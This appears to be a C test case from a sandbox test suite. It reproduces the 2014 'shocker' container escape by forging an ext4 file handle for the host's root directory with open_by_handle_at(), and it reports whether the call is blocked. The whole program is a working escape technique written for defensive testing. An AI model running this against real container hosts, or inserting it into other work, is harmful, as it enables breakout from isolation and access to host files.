/* SPDX-License-Identifier: MIT */
/* fs-open-by-handle: the 'shocker' escape (Docker 2014): open_by_handle_at() with a forged
 * ext4 handle for inode 2 (the filesystem's root directory), relative to /usr, which is the
 * host's ext4 filesystem bound read-only. Success would open the host's real / past every
 * mount. Expected: open_by_handle_at is on the never-allow list: SV. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int
main(void)
{
	struct {
		struct file_handle fh;
		unsigned char f_handle[8];
	} h = {.fh = {.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */}};
	uint32_t ino = 2, gen = 0;

	memcpy(h.f_handle, &ino, 4);
	memcpy(h.f_handle + 4, &gen, 4);
	int mfd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		mfd = AT_FDCWD;
	int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
	if (fd >= 0) {
		DIR *d = fdopendir(fd);
		struct dirent *e;
		while (d && (e = readdir(d)))
			if (!strcmp(e->d_name, "etc") || !strcmp(e->d_name, "root") ||
			    !strcmp(e->d_name, "work")) {
				printf("ESCAPED open_by_handle_at reached the host's /%s\n", e->d_name);
				return 0;
			}
		puts("ESCAPED open_by_handle_at opened a directory by handle");
		return 0;
	}
	puts("BLOCKED");
	return 0;
}
